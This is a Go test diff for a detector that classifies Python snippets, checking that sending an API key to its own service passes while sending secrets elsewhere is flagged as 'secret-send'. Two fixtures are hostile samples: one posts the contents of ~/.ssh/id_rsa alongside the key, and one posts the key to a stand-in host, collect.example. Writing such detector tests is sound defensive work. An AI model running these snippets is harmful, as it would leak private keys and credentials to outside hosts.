@@ -394,3 +394,21 @@ func TestFormatFold(t *testing.T) {
 		t.Error("a format spec folded")
 	}
 }
+
+// A key sent, inside a dict of parameters, to the service it is named
+// after is how that API is called; with another secret beside it, it is
+// not.
+func TestOwnAPIKeyInParams(t *testing.T) {
+	own := "import os, requests\nKEY = os.getenv('JUHE_API_KEY', '').strip()\nrequests.get('http://apis.juhe.cn/ip', params={'ip': '1.2.3.4', 'key': KEY})\n"
+	if got := kinds(own, Python); got != "" {
+		t.Errorf("own API: got %q", got)
+	}
+	more := "import os, requests\nKEY = os.getenv('JUHE_API_KEY', '').strip()\nrequests.post('http://apis.juhe.cn/ip', json={'key': KEY, 'k': open(os.path.expanduser('~/.ssh/id_rsa')).read()})\n"
+	if got := kinds(more, Python); got != "secret-send" {
+		t.Errorf("own API with a key file beside: got %q", got)
+	}
+	other := "import os, requests\nKEY = os.getenv('JUHE_API_KEY', '').strip()\nrequests.post('https://collect.example/x', json={'key': KEY})\n"
+	if got := kinds(other, Python); got != "secret-send" {
+		t.Errorf("another host: got %q", got)
+	}
+}
